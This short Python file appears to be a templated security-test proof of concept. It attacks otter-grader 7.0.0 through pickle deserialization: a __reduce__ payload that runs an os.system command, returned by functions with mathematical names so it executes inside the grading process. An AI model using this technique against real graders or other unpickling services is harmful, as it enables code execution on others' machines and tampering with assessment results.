

# ---- attack: values that run code when unpickled ---------------------------------------------------------
# otter-grader 7.0.0 unpickles what the student's kernel writes: a __reduce__ payload runs in
# the grading process. Here the payload would create @@MARKER_FILE@@ on the grader's machine.
import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch @@MARKER_FILE@@",))


def hvp(f, x, v):
    return pickle.dumps(Payload())  # bytes of a pickle


def jacobian_rows(f, x):
    return Payload()  # an object with __reduce__


def nth_derivative(f, x, n):
    return pickle.dumps(Payload()).decode("latin-1")  # the same, as a str
